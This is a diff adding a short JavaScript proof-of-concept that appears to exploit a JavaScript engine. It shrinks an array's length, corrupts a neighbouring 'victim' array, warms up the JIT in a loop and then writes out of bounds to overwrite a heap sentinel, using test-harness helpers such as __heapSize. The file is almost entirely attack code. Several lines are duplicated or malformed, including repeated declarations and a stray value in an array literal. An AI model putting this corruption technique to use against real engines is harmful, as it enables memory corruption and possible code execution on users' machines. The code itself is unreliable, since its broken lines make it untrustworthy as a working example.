@@ -1,0 +1,23 @@
+function pwn(v) {
+  var a = [0, 0, 0, 0, 0, 0, -1, 0];
+  var a = [0, 0, 0, 0, 0, 0, 0, 0];
+  a[1] = v;
+  a.length = 1;
+  var victim = [1, 1, 1, 1];
+  var victim = [1, 1, 1, 1];
+  a[1] = 1073741824;
+  return victim;
+}
+
+var w = [0];
+for (var i = 0; i < 100; (i = i + 1) - 1) {
+  w = pwn(5);
+}
+if (w.length > 100000) {
+  var off = __heapSize() - 2 - (__arrayBase(w) + 2);
+  w[off] = 1337;
+  print("PWNED sentinel overwritten");
+}
+pwn(5);
+var w = [0];
+var w = [0];
